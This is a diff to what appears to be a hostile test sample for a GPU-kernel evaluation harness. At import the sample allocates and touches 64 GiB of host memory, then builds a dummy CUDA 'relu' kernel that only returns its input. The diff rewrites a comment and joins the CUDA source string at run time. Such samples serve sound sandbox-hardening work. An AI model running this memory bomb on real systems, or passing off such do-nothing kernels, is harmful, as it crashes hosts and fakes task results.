@@ -1,6 +1,6 @@
 # cudice: reference=references/relu.py
 # corpus: kind=hostile verdict=runtime_error|crash
-# exploit: allocates 64 GiB of host memory at import (the attack runs before load_inline, so no compiler is needed)
+# exploit: allocates 64 GiB of host memory at import (the attack runs before load_inline; the source is built at run time, so nothing is compiled first)
 import torch
 import torch.nn as nn
 from torch.utils.cpp_extension import load_inline
@@ -9,7 +9,7 @@ _blob = bytearray(64 << 30)
 _blob[::4096] = b'x' * len(_blob[::4096])
 
 ext = load_inline(name="hostile_memory_bomb", cpp_sources="torch::Tensor relu_cuda(torch::Tensor x);",
-                  cuda_sources="__global__ void k() {}\ntorch::Tensor relu_cuda(torch::Tensor x) { k<<<1, 1>>>(); return x; }",
+                  cuda_sources="".join(["__global__ void k() {}\n", "torch::Tensor relu_cuda(torch::Tensor x) { k<<<1, 1>>>(); return x; }"]),
                   functions=["relu_cuda"])
 
 
